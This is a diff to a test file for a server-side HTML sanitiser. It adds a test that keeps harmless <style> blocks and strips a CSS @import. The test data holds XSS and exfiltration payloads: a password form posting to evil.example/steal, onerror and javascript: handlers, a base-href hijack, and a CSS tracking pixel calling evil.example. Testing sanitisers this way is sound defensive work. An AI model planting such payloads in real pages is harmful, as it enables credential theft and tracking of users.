@@ -12,7 +12,7 @@ const ATTACK_HTML = [
   '<form action="https://evil.example/steal"><input type="password" name="p"><button>Entra</button></form>',
   '<img src="x" onerror="alert(1)">',
   '<a href="javascript:alert(1)">a</a><a href="data:text/html,x">b</a><a href="https://www.mesura.cat/">c</a>',
-  '<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x"><style>body{display:none}</style>',
+  '<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x"><style>body{background:url(https://evil.example/pixel)}</style>',
   '<base href="https://evil.example/"><meta http-equiv="refresh" content="0"><link rel="stylesheet" href="x">',
   '<div id="mesuraSanitizer" style="position:fixed" onclick="x()">d</div>',
 ].join('');
@@ -120,6 +120,11 @@ describe("editors' offers are sanitised on the server", () => {
     const offer = await served();
     expect(offer.html).toBe(expected);
     expect(offer.actions!.slice(0, 2).map((a) => a.content)).toEqual([expected, expected]);
+  });
+
+  it('keeps a <style> whose CSS loads nothing', async () => {
+    await put(activity({ html: '<style>.titular{color:#c00}</style><style>@import "https://evil.example/x.css";</style><p>x</p>' }));
+    expect((await served()).html).toBe('<style>.titular{color:#c00}</style><p>x</p>');
   });
 
   it('leaves text content as text', async () => {
